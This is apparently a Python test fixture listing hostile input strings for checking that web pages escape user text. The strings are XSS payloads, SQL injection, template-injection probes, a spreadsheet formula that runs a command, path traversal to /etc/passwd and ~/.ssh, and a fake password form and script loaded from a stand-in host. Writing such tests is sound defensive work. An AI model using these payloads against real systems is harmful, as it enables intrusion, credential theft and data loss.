"""Hostile texts that try to be interpreted as code or markup, and harmless texts of the same shape."""

STRINGS = [
    "<script>alert('a')</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '" x-data="{}" x-init="alert(1)" hx-get="/admin/" hx-trigger="load',
    "</textarea><svg/onload=alert(1)>",
    "</script><script src=//x.example/x.js></script>",
    "</title></head><body><h1>Sign in again</h1>",
    "</td></tr></table><form action=//x.example><input name=password>",
    "</option></select><a href='javascript:alert(1)'>here</a>",
    "<!-- <iframe srcdoc='<b>'></iframe> --!> <![CDATA[ ]]> <?php ?>",
    "<style>@import '//x.example/x.css'; body{display:none}</style>",
    "<base href=//x.example/><meta http-equiv=refresh content='0;url=//x.example'>",
    "&lt;b&gt; &amp;amp; &#60;i&#62; &#x3c;u&#x3e; &quot",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt&colon;alert(1)//%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//x.example/../\\..\\admin",
    "{{ 7|add:7 }} {{ request.user.password }}",
    "{% now 'Y' %}{% include 'admin/login.html' %}{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {7*7}",
    "%s %d %(name)s %n %% %00 {0} {name!r} {}",
    '{"a": "b", "agent_id": null}',
    "[1, 2, {\"x\": '}]} \\\" \\u003cb\\u003e \\",
    "'; DROP TABLE audit_entry; --",
    '1" OR "1"="1" /* ` */ UNION SELECT',
    "=HYPERLINK(\"//x.example\";\"click\")+cmd|' /C calc'!A0",
    "+1-1+2",
    "-2+3|' x",
    "@SUM(1+1)*cmd",
    "\tplaced by a tab",
    "'already quoted, with \"more\", and; separators",
    "../../etc/passwd ..\\..\\boot.ini CON.txt ~/.ssh",
    "null",
    "undefined NaN None True 0 false []",
    "\u202egnp.exe\u202c \u2066right\u2069 to left עברית العربية",
    "zero\u200bwidth\ufeff\u00adjoin\u2060er\u180e\u3164",
    "bell\u0007 escape\u001b[31mred\u001b[0m del\u007f next\u0085line\u2028sep\u2029par",
    "👩‍👩‍👧‍👦 🏳️‍🌈 Z̸̡̛͕͉̤a̶l̷g̵o̸ ﷽ ｆｕｌｌ＜b＞",
    "first line\nsecond <b>line</b>\r\n=third\n\n\tfifth",
    "<b>" + "very long " * 400 + "</b>" + "W" * 3000,
]  # fmt: skip
# All of them combined, for pages that show only one object. Only the start of a name is stored.
WORST = (
    "\"'><b id=x onclick=alert(1)>`</textarea></script></style></title></option></select><svg/onload=alert(1)>"
    "{{ 7|add:7 }}{% now 'Y' %}<!--<img src=x onerror='alert(2)'>--><a href=javascript:alert(3)>&lt;i&gt;&#60;u>\\"
)
WHOLE = " ".join([WORST, *STRINGS])


def twin(text: str) -> str:
    """A text of the same length and with the same white space, but only letters."""
    return "".join(char if char in " \n\r\t" else "x" for char in text)
